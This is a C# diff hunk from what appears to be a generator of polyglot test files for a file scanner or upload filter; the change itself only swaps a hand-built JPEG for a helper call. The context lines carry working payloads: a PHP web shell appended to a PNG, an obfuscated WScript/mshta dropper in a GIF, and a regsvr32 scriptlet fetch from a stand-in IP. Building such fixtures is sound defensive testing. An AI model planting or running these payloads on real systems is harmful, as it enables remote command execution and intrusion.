@@ -10,7 +10,7 @@ public sealed class Polyglots : EighthRound
     public override IEnumerable<(string Name, byte[] Content)> Variants()
     {
         yield return ("avatar.png", [.. EighthPicture.Build(64, 64), .. Utf8("\n<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; die; } @eval(base64_decode($_POST['z'])); ?>\n")]);
-        byte[] jpeg = [0xFF, 0xD8, 0xFF, 0xE0, 0, 16, .. "JFIF\0"u8, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF, 0xDB, 0, 67, 0, .. Noise(64, 1).Select(one => (byte)(one | 1)), 0xFF, 0xC0, 0, 11, 8, 0, 8, 0, 8, 1, 1, 0x11, 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0x3F, 0x7F, 0xFF, 0xD9];
+        var jpeg = EighthPicture.Jpeg(64, 48);
         yield return ("new_image.jpg", [.. jpeg, .. Utf8("<<BASE64_START>>" + Convert.ToBase64String(InertFiles.Pe(6000)) + "<<BASE64_END>>")]);
         var program = new EighthImage { Is64 = false }.Runtime().Importing("KERNEL32.dll", "VirtualAllocEx WriteProcessMemory CreateRemoteThread").Section(".q", Noise(9000, 31), 0xE0000040).Build();
         yield return ("scan.gif", [.. "GIF89a/*"u8, .. new byte[] { 0x80, 0, 0 }, .. Noise(40, 2).Select(one => (byte)(one % 40 + 48)), .. Utf8("*/=1;var s=new ActiveXObject('WScr'+'ipt.Shell');s['R'+'un']('cmd /c copy /b \"'+WScript.ScriptFullName+'\" %TEMP%\\\\s.hta & mshta %TEMP%\\\\s.hta',0);//\n<script language=vbscript>CreateObject(\"Shell.Application\").ShellExecute \"regsvr32\",\"/s /u /i:http://192.0.2.211/s.sct scrobj.dll\",\"\",\"\",0</script>\n"), 0x3B]);
